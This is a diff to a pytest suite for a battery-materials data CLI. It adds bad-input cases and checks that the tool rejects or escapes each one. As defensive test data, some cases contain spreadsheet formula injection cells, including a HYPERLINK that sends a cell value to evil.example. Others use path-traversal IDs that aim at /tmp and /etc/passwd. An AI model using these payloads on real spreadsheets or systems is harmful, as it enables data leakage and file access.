@@ -40,6 +40,8 @@ class Case:
     store: bool = True                   # add the tmp store overrides (Hydra commands)
     slow: bool = False
     extra: list[str] = field(default_factory=list)
+    champions: bool = False              # the tmp store starts as a copy of one with an ice champion
+    check: Callable[["Outcome"], None] | None = None   # what else must hold afterwards
 
 
 def _seed_lines() -> list[str]:
@@ -67,9 +69,14 @@ def _semicolons(tmp: Path) -> None:
 
 
 def _drop_column(tmp: Path) -> None:
-    lines = [ln.split(",") for ln in _seed_lines()[:5]]
-    k = lines[0].index("la_nm")
-    (tmp / "nola.csv").write_text("\n".join(",".join(c[:k] + c[k + 1:]) for c in lines) + "\n")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO((ROOT / "data" / "liu2022_tables.csv").read_text())))[:5]
+    k = rows[0].index("la_nm")
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows([r[:k] + r[k + 1:] for r in rows])
+    (tmp / "nola.csv").write_text(out.getvalue())
 
 
 def _empty(tmp: Path) -> None:
@@ -193,6 +200,176 @@ CASES = [
 ]
 
 
+# --- the second campaign (2026-12-03 reliability review, F1-F15): one reader for lab files, one
+# parser for list settings, one validation for settings, waivers with reasons, identities ----------
+HEADER = "sample_id,source,material_class,htt_c,electrolyte,current_ma_g,d002_nm,la_nm,lc_nm,id_ig,ssa_m2_g,ice_pct"
+MINE = "{id},my lab,hard,{htt},ester,30,0.375,4.2,1.2,1.05,{ssa},{ice}"
+
+
+def _lab_file(name: str, lines: list[str], header: str = HEADER) -> Callable[[Path], None]:
+    """A user's CSV: ``header`` then ``lines`` (written as given, so ragged and odd bytes stay)."""
+    def prepare(tmp: Path) -> None:
+        (tmp / name).write_text("\n".join([header, *lines]) + "\n")
+    return prepare
+
+
+def _mine(sid: str = "S1", htt: int = 1300, ssa: float = 12.5, ice: str = "") -> str:
+    return MINE.format(id=sid, htt=htt, ssa=ssa, ice=ice)
+
+
+def _add_file(rows: list[dict]) -> Callable[[Path], None]:
+    """A copy of data/ and a new-rows file built from GOOD_ROWS[0] with ``rows``' edits."""
+    def prepare(tmp: Path) -> None:
+        _data_copy(tmp)
+        write_rows(tmp / "new.csv", [{**GOOD_ROWS[0], **r} for r in rows])
+    return prepare
+
+
+def _add_text(text: str) -> Callable[[Path], None]:
+    def prepare(tmp: Path) -> None:
+        _data_copy(tmp)
+        (tmp / "new.csv").write_bytes(text.encode())
+    return prepare
+
+
+def _added_then(tmp: Path) -> None:
+    """C-0001 is already in contributed.csv (added the way a user adds it)."""
+    from nacarbon.commands.db import main as db
+
+    _data_copy(tmp)
+    write_rows(tmp / "first.csv", GOOD_ROWS[:1])
+    assert db(["add", str(tmp / "first.csv"), "--data-dir", str(tmp / "data")]) == 0
+    write_rows(tmp / "fixed.csv", [{**GOOD_ROWS[0], "ice_pct": "86"}])
+
+
+def _folder_as_output(tmp: Path) -> None:
+    _lab_file("mine.csv", [_mine()])(tmp)
+    (tmp / "pred.csv").mkdir()
+
+
+def _nothing_beside_output(out: "Outcome") -> None:
+    """No half-written file, no staging folder, no MLflow run for output that was not written."""
+    assert sorted(p.name for p in out.tmp.iterdir() if p.name.startswith(".")) == [], list(out.tmp.iterdir())
+    for db in out.tmp.rglob("mlflow.db"):
+        with sqlite3.connect(db) as con:
+            assert con.execute("SELECT COUNT(*) FROM runs WHERE name LIKE 'predict-%'").fetchone()[0] == 0
+
+
+def _one_dup(tmp: Path) -> None:
+    _lab_file("dup.csv", [_mine("S1", 1300, 12.5), _mine("S1", 1100, 20)])(tmp)
+
+
+MADE = "sample_id,source,material_class,precursor,htt_c,electrolyte,current_ma_g,d002_nm,la_nm,lc_nm,id_ig,ssa_m2_g"
+SUGGEST = ["suggest", "n=2", "objectives=[ice]", "output={tmp}/batch.csv"]
+
+CASES += [
+    # F9 (item 2): a unit slip in a measured cell is refused, in a lab file and in the database
+    Case("predict-ice-fraction", ["predict", "input={tmp}/frac.csv", "output={tmp}/pred.csv"],
+         ["frac.csv", "row 1", "ice_pct", "0.82", "fraction"], champions=True,
+         prepare=_lab_file("frac.csv", [_mine(ice="0.82"), _mine("S2", 1100, 20)])),
+    Case("db-add-ice-fraction", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "row 1", "ice_pct", "fraction"], prepare=_add_file([{"ice_pct": "0.88"}]), store=False),
+    Case("db-add-capacity-in-ah", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "capacity_mah_g", "Ah/g"], prepare=_add_file([{"capacity_mah_g": "0.31"}]), store=False),
+    Case("db-add-current-in-a", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "current_ma_g", "A/g"], prepare=_add_file([{"current_ma_g": "0.03"}]), store=False),
+    # F1 (item 4): a row longer than its header, in every command that reads a lab file
+    Case("predict-ragged-row", ["predict", "input={tmp}/ragged.csv", "output={tmp}/pred.csv"],
+         ["ragged.csv", "row 1", "line 2", "14 fields, the header 12"],
+         prepare=_lab_file("ragged.csv", [_mine() + ",extra,more"])),
+    Case("db-add-ragged-row", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "row 2", "line 3", "fields"], store=False,
+         prepare=_add_text(f"{HEADER}\nC-0001,a lab,hard,1300,ester,30,0.375,4.2,1.2,1.05,12.5,80\n"
+                           f"C-0002,a lab,hard,1400,ester,30,0.372,4.1,1.2,1.05,9.5,81,x\n")),
+    Case("suggest-ragged-row", [*SUGGEST, "candidates={tmp}/made.csv"], ["made.csv", "row 1", "fields"],
+         champions=True, prepare=_lab_file("made.csv", ["M1,my lab,hard,wood,1300,ester,30,0.375,4.2,1.2,1.05,12.5,x"],
+                                           header=MADE)),
+    # F5 (item 5): wrong-type overrides
+    Case("predict-targets-number", ["predict", "input={tmp}/x.csv", "output={tmp}/o.csv", "targets=5"],
+         ["targets=5", "a list of names"]),
+    Case("screen-targets-number", ["screen", "targets=7"], ["targets=7", "a list of names"]),
+    Case("screen-weight-text", ["screen", "screen.weights.ice=heavy"], ["screen.weights.ice='heavy'", "number >= 0"]),
+    Case("suggest-htt-text", ["suggest", "process.htt_c=[hot]", "objectives=[ice]"],
+         ["process.htt_c=['hot']", "a list of numbers"]),
+    Case("compare-targets-number", ["compare", "targets=3"], ["targets=3", "a list of names"]),
+    Case("train-estimator-param", ["train", "model=extra_trees", "model.estimator.n_estimators=-5"],
+         ["model.estimator.n_estimators=-5", "range [1, inf)"]),
+    # F6 (item 6): a list setting names only known things
+    Case("screen-targets-unknown", ["screen", "targets=ic"], ["unknown target 'ic'", "plateau_capacity"]),
+    Case("promote-exclude-unknown", ["promote", "exclude_models=extra_tree"], ["exclude_models", "'extra_tree'"]),
+    # F7 (item 7): an output path that is a folder, checked before any work
+    Case("predict-output-folder", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv"],
+         ["pred.csv", "is a folder"], champions=True, prepare=_folder_as_output, check=_nothing_beside_output),
+    # F10 (item 9): promote's options
+    Case("promote-metric-unknown", ["promote", "metric=accuracy"], ["metric='accuracy'", "rmse_mean"]),
+    Case("promote-metric-r2", ["promote", "metric=r2_mean"], ["metric='r2_mean'", "rmse_mean"]),
+    Case("promote-force-maybe", ["promote", "force=maybe"], ["force='maybe'", "true or false"]),
+    Case("promote-dry-run-perhaps", ["promote", "dry_run=perhaps"], ["dry_run='perhaps'", "true or false"]),
+    # F11 (item 10): a waiver needs a reason and keeps nothing impossible
+    Case("db-add-waiver-impossible", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "needs a note", "ice_pct", "d002_nm", "cannot be waived", "physically possible"], store=False,
+         prepare=_add_file([{"qc_waiver": "ice_range;d002_range", "ice_pct": "250", "d002_nm": "5.0", "note": ""}])),
+    Case("db-add-waiver-without-note", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "qc_waiver", "needs a note"], store=False,
+         prepare=_add_file([{"qc_waiver": "d002_range", "d002_nm": "0.333"}])),
+    # F12 (item 11): formulas in text cells
+    Case("db-add-formulas", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "'source'", "'precursor'", "'material_name'", "'note'", "formula"], store=False,
+         prepare=_add_file([{"source": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "precursor": "@SUM(A1:A9)",
+                             "material_name": "+cmd", "note": "-2+3", "pore_volume_cm3_g": "0.25"}])),
+    # F13 (item 12): identities
+    Case("predict-duplicate-id", ["predict", "input={tmp}/dup.csv", "output={tmp}/pred.csv"],
+         ["dup.csv", "row 2", "sample_id", "must be unique"], champions=True, prepare=_one_dup),
+    Case("suggest-duplicate-id", [*SUGGEST, "candidates={tmp}/made.csv"], ["made.csv", "row 2", "must be unique"],
+         champions=True, prepare=_lab_file("made.csv", ["M1,my lab,hard,wood,1300,ester,30,0.375,4.2,1.2,1.05,12.5",
+                                                        "m1 ,my lab,hard,wood,1100,ester,30,0.38,4,1.1,1.1,20"],
+                                           header=MADE)),
+    Case("db-add-padded-existing-id", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "L-0001", "already used"], prepare=_add_file([{"sample_id": " L-0001"}]), store=False),
+    Case("db-add-case-existing-id", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "l-0001", "already used", "ignoring case"], prepare=_add_file([{"sample_id": "l-0001"}]),
+         store=False),
+    Case("db-add-nul-byte", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "row 1", "source", "U+0000"], prepare=_add_file([{"source": "my\x00lab"}]), store=False),
+    Case("db-add-id-traversal", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "sample_id", "not a path"], prepare=_add_file([{"sample_id": "../../../tmp/pwned"}]), store=False),
+    Case("db-add-id-slashes", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "sample_id", "not a path"], prepare=_add_file([{"sample_id": "a/b\\c"}]), store=False),
+    # F14 (item 13): an unfilled template is refused; update and withdraw are checked like add
+    Case("db-add-unfilled-template", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "no measured value", "ice_pct"], store=False,
+         prepare=_add_file([{"ice_pct": "", "capacity_mah_g": ""}])),
+    Case("db-update-unknown-id", ["nacarbon.db", "update", "{tmp}/new.csv", "--reason", "typo", "--data-dir",
+                                  "{tmp}/data"], ["new.csv", "C-0001", "not in", "db add"], store=False,
+         prepare=_add_file([{}])),
+    Case("db-update-bad-value", ["nacarbon.db", "update", "{tmp}/fixed.csv", "--reason", "re-measured",
+                                 "--data-dir", "{tmp}/data"], ["fixed.csv", "ice_pct", "fraction"], store=False,
+         prepare=lambda t: (_added_then(t), write_rows(t / "fixed.csv", [{**GOOD_ROWS[0], "ice_pct": "0.86"}]))),
+    Case("db-withdraw-without-reason", ["nacarbon.db", "withdraw", "C-0001", "--reason", " ", "--data-dir",
+                                        "{tmp}/data"], ["--reason", "say why"], store=False, prepare=_added_then),
+    Case("db-withdraw-literature", ["nacarbon.db", "withdraw", "L-0001", "--from", "{tmp}/data/literature_583.csv",
+                                    "--reason", "dislike", "--data-dir", "{tmp}/data"],
+         ["literature", "converted from its source"], store=False, prepare=_data_copy),
+    # F15 (item 15): Lc below one graphene layer
+    Case("db-add-lc-below-one-layer", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "lc_nm", "0.1", "one layer"], prepare=_add_file([{"lc_nm": "0.1"}]), store=False),
+    # WEAK cases of the review
+    Case("db-add-inf-extra", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "carbonization_time_h", "inf"], prepare=_add_file([{"carbonization_time_h": "inf"}]), store=False),
+    Case("db-add-negative-extra", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
+         ["new.csv", "pore_volume_cm3_g", "heating_rate_c_min"], store=False,
+         prepare=_add_file([{"pore_volume_cm3_g": "-5", "heating_rate_c_min": "-1e308"}])),
+    Case("db-export-bad-dataset", ["nacarbon.db", "export", "../../etc/passwd", "{tmp}/out.csv"],
+         ["../../etc/passwd", "known: ['literature'", "'merged'", "'seed'"], store=False),
+    Case("db-nbsp-header", ["nacarbon.db", "validate", "{tmp}/nbsp.csv"], ["nbsp.csv", "invisible", "U+00A0"],
+         store=False, prepare=lambda t: (t / "nbsp.csv").write_text(
+             (ROOT / "data" / "liu2022_tables.csv").read_text().replace("d002_nm", "d002_nm\u00a0", 1))),
+    Case("predict-nbsp-header", ["predict", "input={tmp}/nbsp.csv", "output={tmp}/pred.csv"],
+         ["nbsp.csv", "invisible", "U+00A0"], prepare=_lab_file("nbsp.csv", [_mine()], HEADER.replace("d002_nm",
+                                                                                                  "d002_nm\u00a0"))),
+]
+
+
 def _digest(folder: Path) -> dict[str, str]:
     return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
             for p in sorted(folder.rglob("*")) if p.is_file() and not p.name.endswith(".lock")}
@@ -204,10 +381,110 @@ class Outcome:
     stderr: str
     tmp: Path
     data_before: dict[str, str]
+    stdout: str = ""
 
 
-def _run(case: Case, tmp: Path) -> Outcome:
+def _read(path: Path):
+    import pandas as pd
+
+    return pd.read_csv(path, dtype=str, keep_default_na=False)
+
+
+def _answers_with_one_target(out: Outcome) -> None:
+    table = _read(out.tmp / "pred.csv")
+    assert "pred_ice" in table and len(table) == 2 and not [c for c in table if c.startswith("pred_i_")]
+
+
+def _formulas_escaped_numbers_kept(out: Outcome) -> None:
+    table = _read(out.tmp / "pred.csv")
+    assert table["comment"].tolist() == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "-2.5"]
+    assert table["lab"].tolist() == ["'@SUM(A1:A2)", "'+cmd"]
+
+
+def _template_escaped(out: Outcome) -> None:
+    cells = set(_read(out.tmp / "batch.csv").to_numpy().ravel())
+    assert "'=1+1" in cells and "=1+1" not in cells and "'=HYPERLINK(\"http://x\")" in cells
+
+
+def _stale_staging_removed(out: Outcome) -> None:
+    assert (out.tmp / "pred.csv").is_file() and sorted(p.name for p in out.tmp.glob(".*")) == []
+
+
+def _excluded_model_not_chosen(out: Outcome) -> None:
+    assert "do nothing" in out.stdout and "ridge" not in out.stdout.split("do nothing", 1)[1].split("\n")[0], out.stdout
+
+
+def _corrected_and_recorded(out: Outcome) -> None:
+    table = _read(out.tmp / "data" / "contributed.csv")
+    assert table["sample_id"].tolist() == ["C-0001"] and table["ice_pct"].tolist() == ["86"]
+    log = _read(out.tmp / "data" / "changes" / "log.csv")
+    assert log[["action", "sample_id", "reason"]].values.tolist() == [["update", "C-0001", "ICE re-read"]]
+    assert '"ice_pct": "88"' in log["row_before"].iloc[0] and '"ice_pct": "86"' in log["row_after"].iloc[0]
+
+
+def _withdrawn_and_recorded(out: Outcome) -> None:
+    assert _read(out.tmp / "data" / "contributed.csv").empty
+    log = _read(out.tmp / "data" / "changes" / "log.csv")
+    assert log[["action", "sample_id", "reason"]].values.tolist() == [["withdraw", "C-0001", "contaminated cell"]]
+    assert '"sample_id": "C-0001"' in log["row_before"].iloc[0]
+
+
+def _stored_stripped(out: Outcome) -> None:
+    assert _read(out.tmp / "data" / "contributed.csv")["sample_id"].tolist() == ["C-0009"]
+
+
+def _stale_folder(tmp: Path) -> None:
+    _lab_file("mine.csv", [_mine(), _mine("S2", 1100, 20)])(tmp)
+    stale = tmp / ".pred.csv.4194399.tmp"     # above Linux's largest pid: its process is surely gone
+    stale.mkdir()
+    (stale / "out.csv").write_text("half a table")
+
+
+# Input that once misled (read letter by letter, silently ignored, copied verbatim, locked a user
+# out) and must now give the right answer: exit 0 and what ``check`` says.
+ANSWERS = [
+    Case("predict-targets-name", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv", "targets=ice"], [],
+         champions=True, prepare=_lab_file("mine.csv", [_mine(), _mine("S2", 1100, 20)]),
+         check=_answers_with_one_target),
+    Case("promote-exclude-name", ["promote", "target=ice", "exclude_models=ridge", "dry_run=true"], [],
+         champions=True, check=_excluded_model_not_chosen),
+    Case("predict-formulas-escaped", ["predict", "input={tmp}/f.csv", "output={tmp}/pred.csv"], [], champions=True,
+         prepare=_lab_file("f.csv", [_mine() + ',"=HYPERLINK(""http://evil.example"",""x"")",@SUM(A1:A2)',
+                                     _mine("S2", 1100, 20) + ",-2.5,+cmd"], HEADER + ",comment,lab"),
+         check=_formulas_escaped_numbers_kept),
+    Case("suggest-formulas-escaped", [*SUGGEST, "candidates={tmp}/made.csv"], [], champions=True,
+         prepare=_lab_file("made.csv", ['=1+1,my lab,hard,"=HYPERLINK(""http://x"")",1300,ester,30,0.375,4.2,1.2,1.05,12.5',
+                                        "M2,my lab,hard,wood,1100,ester,30,0.38,4,1.1,1.1,20"], header=MADE),
+         check=_template_escaped),
+    Case("predict-stale-staging-removed", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv"], [],
+         champions=True, prepare=_stale_folder, check=_stale_staging_removed),
+    Case("db-update-corrects-a-row", ["nacarbon.db", "update", "{tmp}/fixed.csv", "--reason", "ICE re-read",
+                                      "--data-dir", "{tmp}/data"], [], store=False, prepare=_added_then,
+         check=_corrected_and_recorded),
+    Case("db-withdraw-removes-a-row", ["nacarbon.db", "withdraw", "c-0001", "--reason", "contaminated cell",
+                                       "--data-dir", "{tmp}/data"], [], store=False, prepare=_added_then,
+         check=_withdrawn_and_recorded),
+    Case("db-add-padded-new-id", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"], [],
+         store=False, prepare=_add_file([{"sample_id": " C-0009 "}]), check=_stored_stripped),
+]
+
+
+def _champion_store(base: Path) -> Path:
+    """A store where ice has a champion: ridge on the seed, trained and promoted by the commands."""
+    store = base / "champions"
+    over = [f"paths.mlruns_dir={store / 'mlruns'}", f"paths.output_dir={store / 'outputs'}",
+            f"paths.experiments_dir={store / 'experiments'}"]
+    for argv in (["train", *over, "target=ice", "model=ridge", "progress=false"],
+                 ["promote", *over, "target=ice", "force=true"]):
+        subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, check=True, capture_output=True,
+                       env={**os.environ, "OMP_NUM_THREADS": "1"}, timeout=600)
+    return store / "mlruns"
+
+
+def _run(case: Case, tmp: Path, champions: Path | None = None) -> Outcome:
     tmp.mkdir(parents=True)
+    if case.champions:
+        shutil.copytree(champions, tmp / "mlruns")
     if case.prepare:
         case.prepare(tmp)
     fill = {"tmp": str(tmp), "data": str(tmp / "data")}
@@ -224,21 +501,22 @@ def _run(case: Case, tmp: Path) -> Outcome:
     env.pop("NACARBON_OPTUNA_STORAGE", None)
     proc = subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, env=env, capture_output=True, text=True,
                           timeout=300)
-    return Outcome(proc.returncode, proc.stderr, tmp, data_before)
+    return Outcome(proc.returncode, proc.stderr, tmp, data_before, proc.stdout)
 
 
 # Each Hydra command pays the start-up of the training stack (~10 s on the shared 2-core
 # machines); the default suite keeps the data cases and one case of each other kind.
-QUICK = {"cv-n_splits-abc", "model-yaml-syntax", "password-in-bad-override", "screen-server-down"}
-for _c in CASES:
-    _c.slow = _c.slow or (_c.argv[0] != "nacarbon.db" and _c.id not in QUICK)
+QUICK = {"cv-n_splits-abc", "model-yaml-syntax", "password-in-bad-override", "screen-server-down",
+         "promote-force-maybe"}
+for _c in [*CASES, *ANSWERS]:
+    _c.slow = _c.slow or _c.champions or (_c.argv[0] != "nacarbon.db" and _c.id not in QUICK)
 
 
 def _selected(session) -> list[Case]:
     """The cases whose tests were collected (after -m and -k)."""
-    ids = {item.callspec.id for item in session.items
-           if getattr(item, "originalname", "") == "test_bad_input_gives_one_clear_error"}
-    return [c for c in CASES if c.id in ids]
+    ids = {item.callspec.id for item in session.items if getattr(item, "originalname", "") in
+           ("test_bad_input_gives_one_clear_error", "test_once_misread_input_gives_the_right_answer")}
+    return [c for c in [*CASES, *ANSWERS] if c.id in ids]
 
 
 @pytest.fixture(scope="module")
@@ -246,8 +524,9 @@ def outcomes(request, tmp_path_factory) -> dict[str, Outcome]:
     repo_data = _digest(ROOT / "data")
     base = tmp_path_factory.mktemp("bad-input")
     cases = _selected(request.session)
+    champions = _champion_store(base) if any(c.champions for c in cases) else None
     with ThreadPoolExecutor(max_workers=4) as pool:
-        results = dict(zip([c.id for c in cases], pool.map(lambda c: _run(c, base / c.id), cases)))
+        results = dict(zip([c.id for c in cases], pool.map(lambda c: _run(c, base / c.id, champions), cases)))
     assert _digest(ROOT / "data") == repo_data, "a bad-input case changed the shipped data/"
     return results
 
@@ -275,6 +554,20 @@ def test_bad_input_gives_one_clear_error(case: Case, outcomes):
     for db in out.tmp.rglob("mlflow.db"):
         with sqlite3.connect(db) as con:
             assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    if case.check:
+        case.check(out)
+
+
+@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=[pytest.mark.slow] if c.slow else [])
+                                  for c in ANSWERS])
+def test_once_misread_input_gives_the_right_answer(case: Case, outcomes):
+    out = outcomes[case.id]
+    assert out.code == 0, f"exit {out.code}:\n{out.stderr}"
+    assert "Traceback" not in out.stderr and "error:" not in out.stderr, out.stderr
+    for db in out.tmp.rglob("mlflow.db"):
+        with sqlite3.connect(db) as con:
+            assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    case.check(out)
 
 
 def test_corpus_is_large_and_covers_every_kind():
